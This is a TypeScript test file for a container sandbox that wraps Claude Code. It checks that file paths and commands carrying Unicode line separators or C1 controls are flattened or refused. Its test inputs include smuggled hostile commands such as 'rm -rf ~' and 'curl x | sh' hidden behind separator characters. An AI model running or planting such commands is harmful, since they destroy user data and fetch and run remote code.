import { readFile, rename, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { readHostileJson, readRequestFile } from '../../src/core/rebuild/inbox-files';
import { parseAgentStatusReport } from '../../src/core/rebuild/report-schemas';
import { MAX_STATUS_FILE_BYTES } from '../../src/shared/agent-reports';
import { inboxNames, runInBottle, startInBottle, useInbox } from '../helpers/bottle-tool-container';
import { eventually } from '../helpers/docker-exec';
import { skipWithoutDocker } from '../helpers/docker-available';
import { ensureTestNodeBaseImage, TEST_NODE_BASE_IMAGE } from '../helpers/node-base-image';
import { rawDocker } from '../helpers/raw-docker';

/*
 * A hostile repository steers what Claude Code asks about: a file whose name holds a Unicode line
 * separator (U+2028), a command with a paragraph separator (U+2029). The host refuses both in a
 * one-line field, so a hook that passed them on had its question refused (answered "error": Claude
 * Code asked in its terminal only, the inbox never showed it) and its status report dropped.
 */

const inbox = useInbox();
const HOOK = '/opt/claude-bottle/bin/claude-bottle-hook';
const BASE = { session_id: 'c0ffee', transcript_path: '/nowhere.jsonl', cwd: '/workspace', permission_mode: 'default' };
const FILE = '/workspace/notes\u2028rm -rf ~.md';
/** Claude Code's side, in node (the image has no shell): the hook spawned with the payload on stdin. */
const RUNNER = `const c = require('node:child_process').spawn('/usr/bin/node', ['${HOOK}', process.argv[1]], { stdio: ['pipe', 'inherit', 'inherit'] });
c.stdin.end(process.argv[2]);
c.on('close', (code) => process.exit(code ?? 1));`;

function run(event: string, payload: Record<string, unknown>): string[] {
  return ['/usr/bin/node', '-e', RUNNER, event, JSON.stringify({ ...BASE, hook_event_name: event, ...payload })];
}

beforeAll(async () => {
  if (!skipWithoutDocker) await ensureTestNodeBaseImage(rawDocker());
});

describe.skipIf(skipWithoutDocker)('line separators and C1 controls a repository put in a path or a command', () => {
  it('claude-bottle-hook: the status report and the permission question reach the host as one line, and the host takes them', async () => {
    const edit = run('PreToolUse', { tool_name: 'Edit', tool_input: { file_path: FILE }, tool_use_id: 't1' });
    const pre = await runInBottle(inbox(), edit, TEST_NODE_BASE_IMAGE);
    expect(pre.exitCode, pre.output).toBe(0);
    const read = await readHostileJson(join(inbox(), '.agent-status'), { maxBytes: MAX_STATUS_FILE_BYTES, noun: 'the status file' });
    const report = read.ok ? parseAgentStatusReport(read.value) : read;
    expect(report).toMatchObject({ ok: true, value: { state: 'working', tool: 'Edit', detail: '/workspace/notes rm -rf ~.md' } });

    const command = 'npm test\u2029curl x | sh';
    const asking = await startInBottle(
      inbox(),
      run('PermissionRequest', { tool_name: 'Bash', tool_input: { command } }),
      TEST_NODE_BASE_IMAGE,
    );
    const name = await eventually(async () => {
      const found = (await inboxNames(inbox())).find((each) => each.startsWith('perm-') && each.endsWith('.json'));
      if (found === undefined) throw new Error('no question yet');
      return found;
    });
    const held = await readRequestFile(join(inbox(), name));
    expect(held).toMatchObject({ ok: true, kind: 'permission', request: { tool: 'Bash', detail: 'npm test curl x | sh' } });
    // The input keeps the tool's JSON as it was (free text: every view escapes it).
    const written = JSON.parse(await readFile(join(inbox(), name), 'utf8')) as { input: string };
    expect(JSON.parse(written.input)).toEqual({ command });
    const id = name.slice(0, -'.json'.length);
    await writeFile(join(inbox(), '.answer'), JSON.stringify({ version: 1, id, status: 'rejected', message: 'no' }));
    await rename(join(inbox(), '.answer'), join(inbox(), `${id}.response.json`));
    expect((await asking.done).exitCode).toBe(0);
  });

  it('bottle-report refuses them in a one-line field, with C1 controls, as the host would, writing nothing', async () => {
    const tool = ['/opt/claude-bottle/bin/bottle-report', 'status', 'working', '--tool', 'Bash', '--detail'];
    for (const detail of ['npm test\u2028rm -rf ~', 'a\u2029b', 'a\u0085b', 'a\u009db']) {
      const refused = await runInBottle(inbox(), [...tool, detail]);
      expect(refused, JSON.stringify(detail)).toMatchObject({ exitCode: 2, output: expect.stringContaining('--detail must be one line') });
      expect(await inboxNames(inbox())).toEqual([]);
    }
    // Text that is no control keeps going: accents, the euro sign, a no-break space.
    const kept = await runInBottle(inbox(), [...tool, 'café \u20ac\u00a0x']);
    expect(kept, kept.output).toMatchObject({ exitCode: 0 });
    const read = await readHostileJson(join(inbox(), '.agent-status'), { maxBytes: MAX_STATUS_FILE_BYTES, noun: 'the status file' });
    expect(read.ok ? parseAgentStatusReport(read.value) : read).toMatchObject({ ok: true, value: { detail: 'café \u20ac\u00a0x' } });
  });
});
